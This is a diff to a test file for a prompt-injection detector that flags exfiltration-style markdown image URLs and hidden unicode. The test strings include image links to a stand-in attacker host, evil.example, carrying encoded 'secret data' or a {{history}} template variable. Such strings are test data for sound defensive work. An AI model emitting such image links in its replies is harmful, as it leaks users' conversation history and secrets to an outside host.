@@ -58,6 +58,12 @@ describe('false alarms fixed', () => {
     expect(rulesOf('![x](https://evil.example/c/aGVsbG8gd29ybGQgc2VjcmV0IGRhdGE.png)')).toContain('injection.exfil-url')
   })
 
+  it('a variable in the path of a trusted host is a badge, not a channel', () => {
+    expect(rulesOf('![ci](https://github.com/acme/app/actions/workflows/{{flow_name}}/badge.svg?branch={{branch}})')).not.toContain('injection.exfil-url')
+    expect(rulesOf('![x](https://evil.example/log?q={{history}})')).toContain('injection.exfil-url')
+    expect(rulesOf('![x](https://{{host}}.github.com/{{history}})')).toContain('injection.exfil-url')
+  })
+
   it('record separators at the edge of a line are not hidden text', () => {
     expect(rulesOf('Intro text.\n\u001fFILE:references/plan.md\u001e\n# Phase 1')).not.toContain('injection.hidden-unicode')
   })
